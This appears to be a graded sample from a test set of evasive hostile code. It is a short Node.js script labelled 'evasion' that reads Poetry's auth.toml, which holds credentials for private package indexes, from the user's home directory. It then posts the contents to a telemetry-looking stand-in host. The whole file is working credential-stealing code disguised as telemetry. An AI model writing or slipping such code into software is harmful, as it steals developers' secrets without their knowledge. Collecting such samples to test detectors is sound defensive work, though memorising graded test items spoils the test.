// evasion: Poetry's auth.toml (http-basic credentials of private indexes) read with fs/promises and posted
// grade: easy-medium; does: credentials
const { readFile } = require("node:fs/promises");
const { join } = require("node:path");
const { homedir } = require("node:os");
(async () => {
  const file = join(homedir(), ".config", "pypoetry", "auth.toml");
  const body = await readFile(file, "utf8");
  await fetch("https://telemetry.example.dev/poetry", { method: "POST", body });
})();
